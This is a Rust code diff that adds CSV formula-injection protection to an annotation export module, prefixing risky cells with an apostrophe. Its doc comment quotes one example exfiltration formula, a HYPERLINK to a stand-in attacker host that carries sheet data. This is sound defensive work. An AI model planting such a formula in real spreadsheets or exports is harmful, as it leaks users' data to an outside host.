@@ -3,6 +3,13 @@
 //! the `csv` crate; rows end in CRLF as the RFC says. Positions are the char offsets of the
 //! passage in the article as it is now (empty for an annotation whose passage is lost), so a
 //! row keeps the way back to its passage.
+//!
+//! **Formula injection.** A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and
+//! some also after a tab or carriage return) as a formula: a note
+//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would send the sheet's data away when
+//! clicked. As OWASP recommends, every text cell that starts with one of those characters is
+//! written with a leading `'` ([`neutralise`]), which spreadsheets show as text and hide. A
+//! script reading the CSV back sees the `'` and can strip it.
 
 use crate::annotation::Annotation;
 use crate::workspace::Workspace;
@@ -11,6 +18,24 @@ use crate::workspace::Workspace;
 pub const HEADER: [&str; 10] = [
     "id", "article", "start", "end", "color", "tags", "quote", "note", "created", "modified",
 ];
+
+/// What makes a spreadsheet take a cell for a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as a spreadsheet will show it, never run it (see the module documentation).
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Writes a row of text cells, each neutralised.
+fn row<'a>(w: &mut csv::Writer<Vec<u8>>, cells: impl IntoIterator<Item = &'a str>) {
+    w.write_record(cells.into_iter().map(|c| neutralise(c).into_owned()))
+        .expect("in memory");
+}
 
 fn writer() -> csv::Writer<Vec<u8>> {
     csv::WriterBuilder::new()
@@ -34,19 +59,22 @@ pub fn to_csv(workspace: &Workspace, annotations: &[Annotation]) -> String {
         let (start, end) = position.map_or((String::new(), String::new()), |p| {
             (p.start.to_string(), p.end.to_string())
         });
-        w.write_record([
-            a.id.as_str(),
-            a.article.as_str(),
-            &start,
-            &end,
-            a.color.name(),
-            &a.tags.join(";"),
-            &quote.exact,
-            &a.note,
-            &a.created.to_string(),
-            &a.modified.to_string(),
-        ])
-        .expect("in memory");
+        let tags: Vec<std::borrow::Cow<str>> = a.tags.iter().map(|t| neutralise(t)).collect();
+        row(
+            &mut w,
+            [
+                a.id.as_str(),
+                a.article.as_str(),
+                &start,
+                &end,
+                a.color.name(),
+                &tags.join(";"),
+                &quote.exact,
+                &a.note,
+                &a.created.to_string(),
+                &a.modified.to_string(),
+            ],
+        );
     }
     finish(w)
 }
@@ -61,12 +89,16 @@ pub fn grid_csv(workspace: &Workspace) -> String {
         .collect();
     let grid = crate::overview::grid(&articles, workspace.notebook().annotations());
     let mut w = writer();
-    w.write_record(std::iter::once("tag").chain(articles.iter().copied()))
-        .expect("in memory");
+    row(
+        &mut w,
+        std::iter::once("tag").chain(articles.iter().copied()),
+    );
     for (tag, counts) in grid.tag_rows() {
         let cells: Vec<String> = counts.iter().map(usize::to_string).collect();
-        w.write_record(std::iter::once(tag).chain(cells.iter().map(String::as_str)))
-            .expect("in memory");
+        row(
+            &mut w,
+            std::iter::once(tag).chain(cells.iter().map(String::as_str)),
+        );
     }
     finish(w)
 }
